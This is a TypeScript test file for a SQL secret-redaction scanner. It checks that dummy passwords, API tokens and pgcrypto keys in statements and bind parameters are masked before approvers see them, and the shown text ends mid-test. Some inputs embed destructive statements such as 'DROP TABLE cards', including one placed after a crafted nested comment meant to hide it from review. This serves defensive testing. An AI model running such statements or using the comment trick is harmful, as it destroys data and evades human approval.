/**
 * With the parser loaded (as wherever statements are recorded or held), passwords in statement text are found by
 * the server's scanner (redact-by-tokens.ts): each case below was recorded or shown to approvers in clear when
 * they were found by spelling alone (redact-statement-secrets.test.ts covers that path, the parser not loaded).
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { redactSql, renderParams } from '../../../src/broker/sql-record.js';
import { safeStatementText, shownParams } from '../../../src/policy/approvals.js';
import { loadParser } from '../../../src/policy/pg-parser.js';
import { redactStatementSecrets, sqlLiteralsRedacted } from '../../../src/policy/redact-statement-secrets.js';
import { redactsTo } from '../../harness/redacts-to.js';

beforeAll(async () => { await loadParser(); });


describe('redactStatementSecrets, read by the scanner', () => {
  it('finds the PASSWORD literal that a literal mentioning password hid from the spelling', () => {
    redactsTo([
      // By spelling, `password` inside the first literal took `'; ALTER … PASSWORD '` for its value.
      ["SELECT 'reset password'; ALTER USER bob PASSWORD 'hunter2'", "SELECT 'reset password'; ALTER USER bob PASSWORD '[redacted]'"],
      ["SELECT 'é password', 'ü'; ALTER USER bob PASSWORD 'hünter2' LOGIN", "SELECT 'é password', 'ü'; ALTER USER bob PASSWORD '[redacted]' LOGIN"],
      ["SELECT '😀'; /* a password */ ALTER ROLE r PASSWORD /* c */ E'hun\\'ter2'", "SELECT '😀'; /* a password */ ALTER ROLE r PASSWORD /* c */ '[redacted]'"],
      // A literal continued on the next line is one literal; a dollar tag may hold digits.
      ["ALTER USER bob PASSWORD 'abc'\n'hunter2'", "ALTER USER bob PASSWORD '[redacted]'"],
      ['ALTER USER bob PASSWORD $t1$hunter2$t1$', "ALTER USER bob PASSWORD '[redacted]'"],
      ["ALTER USER bob PASSWORD U&'hunter\\0032' VALID UNTIL '2027-01-01'", "ALTER USER bob PASSWORD '[redacted]' VALID UNTIL '[redacted]'"],
    ]);
  });

  it('finds a password named otherwise: a quoted option, a setting, a key beside its value, a column', () => {
    redactsTo([
      [`CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS ("password" 'hunter2')`, `CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS ("password" '[redacted]')`],
      ['SET app.password TO $$hunter2$$', "SET app.password TO '[redacted]'"],
      ["SELECT set_config('app.password', 'hunter2', false)", "SELECT set_config('app.password', '[redacted]', false)"],
      ["INSERT INTO cfg VALUES ('db_password','hunter2'), ('user', 'bob')", "INSERT INTO cfg VALUES ('db_password','[redacted]'), ('user', 'bob')"],
      ["SELECT jsonb_build_object('user', 'bob', 'password', 'hunter2')", "SELECT jsonb_build_object('user', 'bob', 'password', '[redacted]')"],
      // A row of a key-value table, the key anywhere in it; an UPDATE of one, by its key.
      ["INSERT INTO settings (value, key) VALUES ('hunter2', 'db_password'), ('bob', 'user')", "INSERT INTO settings (value, key) VALUES ('[redacted]', 'db_password'), ('bob', 'user')"],
      ["UPDATE settings SET value = 'hunter2', changed = now() WHERE key = 'smtp_password'", "UPDATE settings SET value = '[redacted]', changed = now() WHERE key = 'smtp_password'"],
      ["INSERT INTO settings (key, value) VALUES ('db_password', 'x') ON CONFLICT (key) DO UPDATE SET value = 'hunter2' WHERE settings.note = 'kept'", "INSERT INTO settings (key, value) VALUES ('db_password', '[redacted]') ON CONFLICT (key) DO UPDATE SET value = '[redacted]' WHERE settings.note = 'kept'"],
      ["SELECT * FROM users WHERE data->>'password' = 'hunter2' OR data #>> '{auth,password}' = 'hunter3'", "SELECT * FROM users WHERE data->>'password' = '[redacted]' OR data #>> '{auth,password}' = '[redacted]'"],
      ["SELECT set_config('app.password'::text, 'hunter2', false), 1 FROM users WHERE password = text 'hunter3'", "SELECT set_config('[redacted]'::text, '[redacted]', false), '[redacted]' FROM users WHERE password = text '[redacted]'"],
      ["SELECT * FROM users WHERE passwd = 'hunter2' AND name = 'bob'", "SELECT * FROM users WHERE passwd = '[redacted]' AND name = '[redacted]'"],
      ["UPDATE users SET password = crypt('hunter2', gen_salt('bf')) WHERE id = 1", "UPDATE users SET password = crypt('[redacted]', gen_salt('[redacted]')) WHERE id = '[redacted]'"],
      ["INSERT INTO users (email, password) VALUES ('a@b', 'hunter2'), ('c@d', pg_catalog.md5('hunter3'))", "INSERT INTO users (email, password) VALUES ('[redacted]', '[redacted]'), ('[redacted]', pg_catalog.md5('[redacted]'))"],
      ["INSERT INTO public.users AS u (\"Password\", note) OVERRIDING SYSTEM VALUE VALUES ('hunter2', 'kept')", "INSERT INTO public.users AS u (\"Password\", note) OVERRIDING SYSTEM VALUE VALUES ('[redacted]', '[redacted]')"],
    ]);
  });

  it('reads a statement or connection string inside a literal or comment as one', () => {
    redactsTo([
      ["DO $$ BEGIN EXECUTE 'ALTER USER x PASSWORD ''hunter2'''; END $$", "DO $$ BEGIN EXECUTE 'ALTER USER x PASSWORD ''[redacted]'''; END $$"],
      ["SELECT format('ALTER USER %I PASSWORD %L', 'bob', 'hunter2')", "SELECT format('ALTER USER %I PASSWORD %L', '[redacted]', '[redacted]')"],
      ["SELECT 'ALTER USER bob PASSWORD ' || quote_literal('hunter2')", "SELECT 'ALTER USER bob PASSWORD ' || quote_literal('[redacted]')"],
      ["SELECT dblink_connect('host=h password=hunter2 dbname=d'), dblink('c', 'SELECT 1')", "SELECT dblink_connect('host=h password=[redacted] dbname=d'), dblink('c', 'SELECT 1')"],
      ["CREATE SUBSCRIPTION s CONNECTION 'host=h password=''hunter2''' PUBLICATION p", "CREATE SUBSCRIPTION s CONNECTION 'host=h password=''[redacted]''' PUBLICATION p"],
      ["-- ALTER USER bob PASSWORD 'hunter2'\nSELECT 1", "-- ALTER USER bob PASSWORD '[redacted]'\nSELECT 1"],
      ['SELECT 1 /* password=hunter2 */', 'SELECT 1 /* password=[redacted] */'],
    ]);
  });

  it('finds the value of a password-named call, key, JSON member, setting or comparison', () => {
    redactsTo([
      ["SELECT set_password('bob', 'hunter2')", "SELECT set_password('[redacted]', '[redacted]')"],
      ["CALL auth.reset_password(42, 'hunter2')", "CALL auth.reset_password('[redacted]', '[redacted]')"],
      ["SELECT set_config('app.password', trim('hunter2'), false)", "SELECT set_config('app.password', trim('[redacted]'), false)"],
      ["INSERT INTO settings (key, value) VALUES ('smtp_password', pgp_sym_encrypt('hunter2', 'k3y'))", "INSERT INTO settings (key, value) VALUES ('smtp_password', pgp_sym_encrypt('[redacted]', '[redacted]'))"],
      ["UPDATE u SET profile = jsonb_set(profile, '{auth,password}', '\"hunter2\"')", "UPDATE u SET profile = jsonb_set(profile, '[redacted]', '[redacted]')"],
      [`INSERT INTO config (data) VALUES ('{"db_password": "hunter2", "user": "bob"}')`, `INSERT INTO config (data) VALUES ('{"db_password": "[redacted]", "user": "bob"}')`],
      ["COMMENT ON ROLE bob IS 'password: hunter2'", "COMMENT ON ROLE bob IS 'password: [redacted]'"],
      ['SET app.password = hunter2', 'SET app.password = [redacted]'],
      ['UPDATE users SET password = 123456 WHERE id = 7', "UPDATE users SET password = '[redacted]' WHERE id = '[redacted]'"],
      ["SELECT 1 FROM users WHERE 'hunter2' = password OR password <> 'hunter3' OR password LIKE 'hunter4%'", "SELECT '[redacted]' FROM users WHERE '[redacted]' = password OR password <> '[redacted]' OR password LIKE '[redacted]'"],
      ["SELECT 'hunter2' AS password, 'kept' AS note", "SELECT '[redacted]' AS password, '[redacted]' AS note"],
      ["UPDATE users SET password = (SELECT crypt('hunter2', gen_salt('bf')))", "UPDATE users SET password = (SELECT crypt('[redacted]', gen_salt('[redacted]')))"],
      ["SELECT dblink_connect('c', 'postgresql://h/db?user=bob&password=hunter2&sslmode=require')", "SELECT dblink_connect('c', 'postgresql://h/db?user=bob&password=[redacted]&sslmode=require')"],
      ["SELECT dblink_connect('c', 'host=h password=ab''cd dbname=d'), dblink_connect('d', 'password=hunter\\ 2 host=h')", "SELECT dblink_connect('c', 'host=h password=[redacted] dbname=d'), dblink_connect('d', 'password=[redacted] host=h')"],
    ]);
  });

  it('makes what the spelling alone found: prose and foreign connection strings in literals, a comment before a literal, a SET to a keyword or a word with operators, a quoted name', () => {
    redactsTo([
      ["SELECT 'Data Source=db;User Id=sa;Password=hunter2'", "SELECT 'Data Source=db;User Id=sa;Password=[redacted]'"],
      ["INSERT INTO notes (body) VALUES ('new password = hunter2')", "INSERT INTO notes (body) VALUES ('new password = [redacted]')"],
      ["INSERT INTO creds VALUES ('bob', -- password\n 'hunter2')", "INSERT INTO creds VALUES ('bob', -- password\n '[redacted]')"],
      ['SET app.password = admin', 'SET app.password = [redacted]'],
      ['SET app.password TO hunter-2', 'SET app.password TO [redacted]'],
      ["CREATE FUNCTION f() RETURNS int SET app.password = hunter2 AS 'select 1' LANGUAGE sql", "CREATE FUNCTION f() RETURNS int SET app.password = [redacted] AS 'select ''[redacted]''' LANGUAGE sql"],
      ["SELECT * FROM users WHERE password = hunter2", "SELECT * FROM users WHERE password = [redacted]"],
      [`SELECT 1 AS "password 'hunter2'"`, `SELECT '[redacted]' AS "password '[redacted]'"`],
      ["INSERT INTO t (password) VALUES ('hunter2'", "INSERT INTO t (password) VALUES ('[redacted]'"],
    ]);
  });

  it('finds tokens, keys, secrets and passphrases as it finds passwords; and withholds the bind parameters of a statement naming one', () => {
    redactsTo([
      ["INSERT INTO api_clients (name, api_key, client_secret) VALUES ('ci', 'k-123', 's-456')", "INSERT INTO api_clients (name, api_key, client_secret) VALUES ('[redacted]', '[redacted]', '[redacted]')"],
      ["CREATE USER MAPPING FOR bob SERVER s3 OPTIONS (region 'eu', secret_key 'hunter2')", "CREATE USER MAPPING FOR bob SERVER s3 OPTIONS (region '[redacted]', secret_key '[redacted]')"],
      ["UPDATE sessions SET token = 'abc', user_id = 7 WHERE id = 1", "UPDATE sessions SET token = '[redacted]', user_id = '[redacted]' WHERE id = '[redacted]'"],
      ["SELECT set_config('app.passphrase', 'hunter2', false)", "SELECT set_config('app.passphrase', '[redacted]', false)"],
      [`INSERT INTO t (cfg) VALUES ('{"api_key": "k-1", "region": "eu"}')`, `INSERT INTO t (cfg) VALUES ('{"api_key": "[redacted]", "region": "eu"}')`],
      // An encryption key given to a setting that a later statement decrypts with (current_setting('app.encryption_key')).
      ["SET app.encryption_key = 'k3y'", "SET app.encryption_key = '[redacted]'"],
      ["SELECT set_config('pgcrypto.aes_key', 'k3y', false), set_config('app.region', 'eu', false)", "SELECT set_config('pgcrypto.aes_key', '[redacted]', false), set_config('app.region', 'eu', false)"],
      ["ALTER ROLE app SET app.master_key TO 'k3y'", "ALTER ROLE app SET app.master_key TO '[redacted]'"],
    ]);
    for (const sql of ["SELECT * FROM tokens WHERE user_id = 5 AND kind = 'x'", "SELECT secretary, 'x' FROM staff WHERE token_type = 'bearer'", "UPDATE keys SET api_key_id = 'k1' WHERE owner = 'bob'",
      "SELECT * FROM t WHERE sort_key = 'a' AND encryption_key_id = 'k1' AND monkey = 'b'"]) {
      expect(redactStatementSecrets(sql), sql).toBe(sql);
    }
    const params = [{ format: 'text' as const, value: 'tok-123' }];
    expect(renderParams(params, 'SELECT * FROM sessions WHERE auth_token = $1')).toEqual(['[redacted]']);
    expect(renderParams(params, 'SELECT * FROM tokens WHERE id = $1')).toEqual(['tok-123']);
  });

  it("finds pgcrypto's keys and passwords by their place in the call, and withholds the bind parameters of such a call", () => {
    redactsTo([
      ["SELECT pgp_sym_decrypt(pan, 'k3y-s3cr3t') FROM cards", "SELECT pgp_sym_decrypt(pan, '[redacted]') FROM cards"],
      ["SELECT public.pgp_sym_decrypt_bytea(pan, 'k3y'::text, 'cipher-algo=aes256') FROM cards", "SELECT public.pgp_sym_decrypt_bytea(pan, '[redacted]'::text, 'cipher-algo=aes256') FROM cards"],
      ["INSERT INTO cards (pan) VALUES (pgp_sym_encrypt('4111', 'k3y'))", "INSERT INTO cards (pan) VALUES (pgp_sym_encrypt('4111', '[redacted]'))"],
      ["SELECT pgp_pub_decrypt(msg, dearmor('-----BEGIN PGP'), 'pass') FROM m", "SELECT pgp_pub_decrypt(msg, dearmor('[redacted]'), '[redacted]') FROM m"],
      ["SELECT encode(hmac(pan, 'k3y', 'sha256'), 'hex'), decrypt_iv(c, 'k3y', '\\x00', 'aes') FROM t", "SELECT encode(hmac(pan, '[redacted]', 'sha256'), 'hex'), decrypt_iv(c, '[redacted]', '\\x00', 'aes') FROM t"],
      // A password hashed into a column not named as one.
      ["INSERT INTO users (email, pw_hash) VALUES ('a@b', crypt('hunter2', gen_salt('bf')))", "INSERT INTO users (email, pw_hash) VALUES ('a@b', crypt('[redacted]', gen_salt('bf')))"],
      ['SELECT "encrypt"(d, $$k3y$$, \'aes\'), "CRYPT" /* c */ (\'hunter2\', s) FROM t', "SELECT \"encrypt\"(d, '[redacted]', 'aes'), \"CRYPT\" /* c */ ('[redacted]', s) FROM t"],
    ]);
    // Not calls: an encrypted_pan column, a crypt table.
    for (const sql of ["SELECT encrypted_pan, 'k' FROM crypt WHERE hmac_kind = 'x'"]) expect(redactStatementSecrets(sql), sql).toBe(sql);
    const params = [{ format: 'text' as const, value: 'k3y' }];
    expect(renderParams(params, 'SELECT pgp_sym_decrypt(pan, $1) FROM cards')).toEqual(['[redacted]']);
    expect(renderParams(params, 'SELECT encrypted_pan FROM cards WHERE id = $1')).toEqual(['k3y']);
  });

  it("redacts a body's dynamic SQL whole where a key may be set in it, a bare word too", () => {
    redactsTo([
      ["SELECT pgp_sym_decrypt(pan, current_setting('app.k')) FROM cards; DO $$ BEGIN EXECUTE 'SET app.k = k3yBARE'; PERFORM dblink_exec('c', 'SET app.k = k3yDBL'); END $$", "SELECT pgp_sym_decrypt(pan, current_setting('[redacted]')) FROM cards; DO $$ BEGIN EXECUTE '[redacted]'; PERFORM dblink_exec('[redacted]', '[redacted]'); END $$"],
    ]);
  });

  it('redacts every literal and number of a statement whose key is not written in its place (a column, a subquery, a setting), and of those that set a setting', () => {
    redactsTo([
      ["SELECT pgp_sym_decrypt(c.pan, k.v) FROM cards c, (SELECT 'k3y' AS v) k WHERE c.id = 7", "SELECT pgp_sym_decrypt(c.pan, k.v) FROM cards c, (SELECT '[redacted]' AS v) k WHERE c.id = '[redacted]'"],
      ["SELECT pgp_sym_decrypt(pan, k.v::text) FROM cards, (SELECT 98765 AS v) k", "SELECT pgp_sym_decrypt(pan, k.v::text) FROM cards, (SELECT '[redacted]' AS v) k"],
      ["WITH k AS (VALUES ('k3y')) SELECT pgp_sym_decrypt(pan, (SELECT * FROM k)) FROM cards", "WITH k AS (VALUES ('[redacted]')) SELECT pgp_sym_decrypt(pan, (SELECT * FROM k)) FROM cards"],
      // From a column or subquery: its statement's values and those of the text's SETs; other statements keep theirs.
      ["SET app.x = 'k3y'; DELETE FROM t WHERE id IN (17, 42); SELECT hmac(pan, k.v, 'sha256') FROM cards, k", "SET app.x = '[redacted]'; DELETE FROM t WHERE id IN (17, 42); SELECT hmac(pan, k.v, '[redacted]') FROM cards, k"],
      // From a setting: any statement of the text may set it (a DO block, a function), so every value of the text.
      ["SET app.k = 'k3y'; DELETE FROM t WHERE id IN (17, 42); SELECT hmac(pan, current_setting('app.k'), 'sha256') FROM cards", "SET app.k = '[redacted]'; DELETE FROM t WHERE id IN ('[redacted]', '[redacted]'); SELECT hmac(pan, current_setting('[redacted]'), '[redacted]') FROM cards"],
      // (A body is code that runs: its literals go, what it does stays, with what its own redaction found; a SET's bare
      // words go too, its value list as one; not a C function's file.)
      ["SELECT hmac(pan, current_setting('app.k'), 'sha1') FROM cards; DO $$BEGIN SET app.api_key = k3ybare; END$$; SET search_path = public, app", "SELECT hmac(pan, current_setting('[redacted]'), '[redacted]') FROM cards; DO $$BEGIN SET app.api_key = [redacted]; END$$; SET search_path = [redacted] "],
      ["SELECT hmac(pan, current_setting('app.k'), 'sha1') FROM cards; CREATE FUNCTION f() RETURNS int AS '$libdir/k3y', 'sym' LANGUAGE C", "SELECT hmac(pan, current_setting('[redacted]'), '[redacted]') FROM cards; CREATE FUNCTION f() RETURNS int AS '[redacted]', '[redacted]' LANGUAGE C"],
      ["DO $$BEGIN PERFORM set_config('app.k', 'kk-1', false); DROP TABLE audit; END$$; SELECT pgp_sym_decrypt(pan, current_setting('app.k')) FROM cards", "DO $$BEGIN PERFORM set_config('[redacted]', '[redacted]', false); DROP TABLE audit; END$$; SELECT pgp_sym_decrypt(pan, current_setting('[redacted]')) FROM cards"],
      ["SET app.k = kk4; DO LANGUAGE plpgsql $$BEGIN PERFORM pgp_sym_decrypt(pan, current_setting('app.k')) FROM cards; END$$", "SET app.k = [redacted]; DO LANGUAGE plpgsql $$BEGIN PERFORM pgp_sym_decrypt(pan, current_setting('[redacted]')) FROM cards; END$$"],
      ["SELECT set_config('app.k', 'k3y', false); SELECT hmac(pan, current_setting('app.k'), 'sha256') FROM cards", "SELECT set_config('[redacted]', '[redacted]', false); SELECT hmac(pan, current_setting('[redacted]'), '[redacted]') FROM cards"],
      // A cast with modifiers is read as not in place (a call after `::` would be read to no end).
      ["SELECT pgp_sym_decrypt(pan, 'k3y'::varchar(10)), 'x' FROM cards", "SELECT pgp_sym_decrypt(pan, '[redacted]'::varchar('[redacted]')), '[redacted]' FROM cards"],
      // A function's parameter is such a place too: more than the secret goes (never less).
      ["CREATE FUNCTION f(p_pw text) RETURNS bool AS $$ SELECT EXISTS (SELECT 1 FROM users WHERE password = crypt(p_pw, password)) $$ LANGUAGE sql", "CREATE FUNCTION f(p_pw text) RETURNS bool AS $$ SELECT EXISTS (SELECT '[redacted]' FROM users WHERE password = crypt(p_pw, password)) $$ LANGUAGE sql"],
    ]);
    // Written in its place (a literal, a parameter, cast or joined): only the key.
    redactsTo([
      ["SELECT pgp_sym_decrypt(pan, ('k3y' || $1)::text) FROM cards WHERE id = 7", "SELECT pgp_sym_decrypt(pan, ('[redacted]' || $1)::text) FROM cards WHERE id = 7"],
      ["SELECT pgp_sym_decrypt(pan, '\\x6b'::bytea::character varying) FROM cards WHERE id = 7", "SELECT pgp_sym_decrypt(pan, '[redacted]'::bytea::character varying) FROM cards WHERE id = 7"],
    ]);
  });

  it("redacts an EXECUTE's arguments: what the statement prepared by that name does with them is not in the text", () => {
    redactsTo([
      ["EXECUTE dec('k3y')", "EXECUTE dec('[redacted]')"],
      ["execute \"SetPw\" (1, 'hunter2'); SELECT 'kept'", "execute \"SetPw\" ('[redacted]', '[redacted]'); SELECT 'kept'"],
      ["CREATE TABLE t AS EXECUTE function('k3y')", "CREATE TABLE t AS EXECUTE function('[redacted]')"],
      ["EXPLAIN (ANALYZE) EXECUTE procedure('k3y')", "EXPLAIN (ANALYZE) EXECUTE procedure('[redacted]')"],
      // Not an EXECUTE of a prepared statement: a trigger's function, a grant, plpgsql's dynamic SQL.
      ["CREATE TRIGGER t BEFORE INSERT ON u FOR EACH ROW EXECUTE FUNCTION audit('x')", "CREATE TRIGGER t BEFORE INSERT ON u FOR EACH ROW EXECUTE FUNCTION audit('x')"],
      ["GRANT EXECUTE ON FUNCTION f(int) TO bob", "GRANT EXECUTE ON FUNCTION f(int) TO bob"],
      ["DO $$ BEGIN EXECUTE format('SELECT %s', 1); END $$", "DO $$ BEGIN EXECUTE format('SELECT %s', 1); END $$"],
    ]);
    // Text the scanner cannot read (nor the server parse, so it runs none of it) that EXECUTEs, calls a key's function or
    // names a secret but a password (the spelling knows passwords): replaced whole, a key in any quoting.
    // A body the scanner cannot read (PL/Python: quotes pair otherwise) is replaced whole when it names a secret or calls a
    // key's function (where its key is cannot be told), and shown when it does not.
    const body = (line: string) => `CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u AS $$\n# don't\nplpy.execute("${line}")\n$$`;
    expect(redactStatementSecrets(body("SELECT pgp_sym_decrypt(pan, 's3cr3tkey') FROM cards"))).toBe(body('').replace(/\$\$[\s\S]*\$\$/, '$$$$[redacted]$$$$'));
    expect(redactStatementSecrets(body('DROP TABLE audit_trail'))).toBe(body('DROP TABLE audit_trail'));
    // Text the server parses but the scanner will not read (past ~3.6 million tokens): its code stays, every literal goes.
    expect(sqlLiteralsRedacted("SELECT 'a''b', E'x\\'y', $t$ 'q' $t$, \"it's\" -- don't\n, /* it's /* n */ ' */ 'k', U&'z', $1 FROM t WHERE x = 'open", 'R'))
      .toBe("SELECT 'R', E'R', 'R', \"it's\" -- don't\n, /* it's /* n */ ' */ 'R', U&'R', $1 FROM t WHERE x = 'R'");
    for (const sql of ["EXECUTE dec('k3y') /* unclosed", "SELECT pgp_sym_decrypt(pan, E'\\'k3y') FROM cards \"", 'SELECT pgp_sym_decrypt(pan, $$k3y$$) "',
      'SET app.api_key = $k$k3y$k$; SELECT 1 "', "SELECT 98765 AS v, hmac(pan, v::text, 'sha1') /*"]) {
      expect(redactStatementSecrets(sql), sql).toBe('[redacted]');
    }
    // Bind parameters: withheld for an EXECUTE and for an INSERT without a column list, in the record and for an approver.
    const params = [{ format: 'text' as const, value: 'hunter2' }];
    expect(renderParams(params, 'EXECUTE add($1)')).toEqual(['[redacted]']);
    expect(renderParams(params, 'INSERT INTO users VALUES (1, $1)')).toEqual(['[redacted]']);
    expect(renderParams(params, 'INSERT INTO users (id, name) VALUES (1, $1)')).toEqual(['hunter2']);
    expect(shownParams('SELECT pgp_sym_decrypt(pan, $1) FROM cards', { params })).toEqual(['[redacted]']);
    expect(shownParams('INSERT INTO users VALUES (1, $1)', { params })).toEqual(['[redacted]']);
    expect(shownParams('SELECT name FROM users WHERE id = $1', { params })).toEqual(['hunter2']);
    // An approver is shown a parameter as the record keeps it: read as a literal's text is, and every one withheld when
    // one names a secret.
    const creds = ['postgres://app:pw-9x7@db/x', 'Bearer tok-Ab3xY9'].map((value) => ({ format: 'text' as const, value }));
    expect(shownParams('UPDATE hooks SET url = $1, auth = $2 WHERE id = 1', { params: creds })).toEqual(['postgres://app:[redacted]@db/x', 'Bearer [redacted]']);
    const pair = ['db_password', 'pw-9x7'].map((value) => ({ format: 'text' as const, value }));
    expect(shownParams('INSERT INTO settings (k, v) VALUES ($1, $2)', { params: pair })).toEqual(['[redacted]', '[redacted]']);
  });

  it('finds keys and password columns where a review found them missed: set operations, parenthesized and WITH sources, IN lists, reversed rows, brackets, SQL in literals', () => {
    redactsTo([
      ["INSERT INTO u (email, password) SELECT 'a','hunter2' UNION ALL SELECT 'b','S3CR'", "INSERT INTO u (email, password) SELECT '[redacted]','[redacted]' UNION ALL SELECT '[redacted]','[redacted]'"],
      ["INSERT INTO u (email, password) ((SELECT 'a','hunter2') UNION (SELECT 'b','S3CR'))", "INSERT INTO u (email, password) ((SELECT '[redacted]','[redacted]') UNION (SELECT '[redacted]','[redacted]'))"],
      ["INSERT INTO u (email, password) WITH x AS (SELECT 1) SELECT 'a','hunter2' FROM x", "INSERT INTO u (email, password) WITH x AS (SELECT '[redacted]') SELECT '[redacted]','[redacted]' FROM x"],
      ["UPDATE u SET (email,password) = (VALUES ('a','hunter2'))", "UPDATE u SET (email,password) = (VALUES ('[redacted]','[redacted]'))"],
      ["UPDATE u SET (email,password) = ((SELECT 'a','x' INTERSECT SELECT 'b','S3CR'))", "UPDATE u SET (email,password) = ((SELECT '[redacted]','[redacted]' INTERSECT SELECT '[redacted]','[redacted]'))"],
      ["SELECT 1 FROM u WHERE (name,password) IN (('bob','hunter2'), ('al','S3CR'))", "SELECT '[redacted]' FROM u WHERE (name,password) IN (('[redacted]','[redacted]'), ('[redacted]','[redacted]'))"],
      ["SELECT 1 FROM u WHERE (name,password) IS NOT DISTINCT FROM ('bob','hunter2') OR ('al','S3CR') = (name,password)", "SELECT '[redacted]' FROM u WHERE (name,password) IS NOT DISTINCT FROM ('[redacted]','[redacted]') OR ('[redacted]','[redacted]') = (name,password)"],
      ["SELECT pgp_sym_encrypt(ARRAY[pan, cvv]::text, 'S3CR') FROM t", "SELECT pgp_sym_encrypt(ARRAY[pan, cvv]::text, '[redacted]') FROM t"],
      ["INSERT INTO u (created,password) SELECT '2020-01-01'::timestamp with time zone, 'hunter2'", "INSERT INTO u (created,password) SELECT '[redacted]'::timestamp with time zone, '[redacted]'"],
      ["INSERT INTO u (a,password) SELECT a IS DISTINCT FROM b, 'hunter2' FROM t", "INSERT INTO u (a,password) SELECT a IS DISTINCT FROM b, '[redacted]' FROM t"],
      ['SELECT U&"pgp_sym_decryp\\0074"(pan, \'S3CR\') FROM t', 'SELECT U&"pgp_sym_decryp\\0074"(pan, \'[redacted]\') FROM t'],
      ["CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT pgp_sym_decrypt(pan, 'S3CR') FROM cards $$", "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT pgp_sym_decrypt(pan, '[redacted]') FROM cards $$"],
      ["SELECT dblink('conn', 'SELECT pgp_sym_decrypt(pan, ''S3CR'') FROM cards')", "SELECT dblink('conn', 'SELECT pgp_sym_decrypt(pan, ''[redacted]'') FROM cards')"],
      ["SELECT format('SELECT pgp_sym_decrypt(pan, %L)', 'S3CR')", "SELECT format('SELECT pgp_sym_decrypt(pan, %L)', '[redacted]')"],
      ["SELECT 'SELECT pgp_sym_decrypt(pan, ' || quote_literal('S3CR') || ')'", "SELECT 'SELECT pgp_sym_decrypt(pan, ' || quote_literal('[redacted]') || '[redacted]'"],
    ]);
    const params = [{ format: 'text' as const, value: 'S3CR' }];
    expect(renderParams(params, 'SELECT U&"pgp_sym_decryp\\0074"(pan, $1) FROM t')).toEqual(['[redacted]']);
  });

  it('finds what a second review found missed: escapes past a doubled quote or across a continued literal, UESCAPE names, TABLE arms, quoted format, casts and concat in dynamic SQL, EXECUTE … USING, subscripted columns', () => {
    redactsTo([
      ["SELECT dblink_connect(E'host=h dbname=''x'' \\160assword=hunter2')", "SELECT dblink_connect('[redacted]')"],
      ["SELECT dblink_connect(E'host=h '\n'\\160assword=hunter2')", "SELECT dblink_connect('[redacted]')"],
      [`CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (user 'u', U&"!0070assword" UESCAPE '!' 'hunter2')`, `CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (user '[redacted]', U&"!0070assword" UESCAPE '!' '[redacted]')`],
      [`SELECT U&"pgp_sym_decryp!0074" UESCAPE '!' (pan, 'S3CR') FROM t`, `SELECT U&"pgp_sym_decryp!0074" UESCAPE '!' (pan, '[redacted]') FROM t`],
      ["INSERT INTO u (email, password) SELECT 'a','x' UNION ALL TABLE t UNION ALL SELECT 'b','S3CR'", "INSERT INTO u (email, password) SELECT '[redacted]','[redacted]' UNION ALL TABLE t UNION ALL SELECT '[redacted]','[redacted]'"],
      [`SELECT "format"('ALTER ROLE x PASSWORD %L', 'S3CR')`, `SELECT "format"('ALTER ROLE x PASSWORD %L', '[redacted]')`],
      ["SELECT 'SELECT pgp_sym_decrypt(pan, '::text || quote_literal('S3CR')", "SELECT 'SELECT pgp_sym_decrypt(pan, '::text || quote_literal('[redacted]')"],
      ["SELECT concat('ALTER ROLE x PASSWORD ', quote_literal('S3CR'))", "SELECT concat('ALTER ROLE x PASSWORD ', quote_literal('[redacted]'))"],
      ["DO $$ BEGIN EXECUTE 'UPDATE u SET password = $1 WHERE id = $2' USING 'hunter2', 7; PERFORM 'kept'; END $$", "DO $$ BEGIN EXECUTE 'UPDATE u SET password = $1 WHERE id = $2' USING '[redacted]', '[redacted]'; PERFORM 'kept'; END $$"],
      ["INSERT INTO u (tags[1], password) VALUES ('x','S3CR')", "INSERT INTO u (tags['[redacted]'], password) VALUES ('[redacted]','[redacted]')"],
      ["INSERT INTO u (a, b, password) SELECT 'a', t.from, 'S3CR' FROM t", "INSERT INTO u (a, b, password) SELECT '[redacted]', t.from, '[redacted]' FROM t"],
      // A U&'…' literal keeps its prefix, so that its UESCAPE clause still reads.
      ["ALTER ROLE x PASSWORD U&'!0068unter2' UESCAPE '!'; DROP TABLE cards", "ALTER ROLE x PASSWORD U&'[redacted]' UESCAPE '!'; DROP TABLE cards"],
    ]);
    const params = [{ format: 'text' as const, value: 'hunter2' }];
    expect(renderParams(params, "SELECT set_config(E'app.\\x70assword', $1, false)")).toEqual(['[redacted]']);
    expect(renderParams(params, "SELECT set_config(U&'app.\\0070assword', $1, false)")).toEqual(['[redacted]']);
  });

  it('replaces a block comment whole when a nested /* or */ in it would end it elsewhere once redacted: no statement after it hidden', () => {
    redactsTo([
      ["/* /* password '*/' */ DROP TABLE cards; SELECT 1 -- */", '/* [redacted] */ DROP TABLE cards; SELECT 1 -- */'],
      ["/* password '/*' */ SELECT 1 */ DROP TABLE cards", '/* [redacted] */ DROP TABLE cards'],
      ['/* a password: hunter2 */ SELECT 1', '/* a password: [redacted] */ SELECT 1'],
    ]);
  });

  it("redacts an INSERT without a column list by its table's columns, and every value when they are not known", () => {
    const columns: Record<string, string[]> = { users: ['id', 'name', 'password', 'password_changed_at'], 'app.keys': ['id', 'api_key'] };
    const redact = (sql: string) => {
      const tables = { columnsOf: (t: string) => columns[t], needed: false };
      return [redactStatementSecrets(sql, undefined, tables), tables.needed] as const;
    };
    expect(redact("INSERT INTO users VALUES (1, 'bob', 'hunter2', '2026-01-01'), (2, 'al', 'S3CR', now())")).toEqual(["INSERT INTO users VALUES (1, 'bob', '[redacted]', '2026-01-01'), (2, 'al', '[redacted]', now())", true]);
    expect(redact('INSERT INTO "App".keys AS k VALUES (7, $$k-1$$)')).toEqual(["INSERT INTO \"App\".keys AS k VALUES (7, '[redacted]')", true]);
    expect(redact("INSERT INTO users SELECT 1, 'bob', 'hunter2', now() UNION ALL SELECT 2, 'al', 'S3CR', now()")).toEqual(["INSERT INTO users SELECT 1, 'bob', '[redacted]', now() UNION ALL SELECT 2, 'al', '[redacted]', now()", true]);
    // In a function's or DO block's body (its tables are not looked up before the statement: every value, unless known).
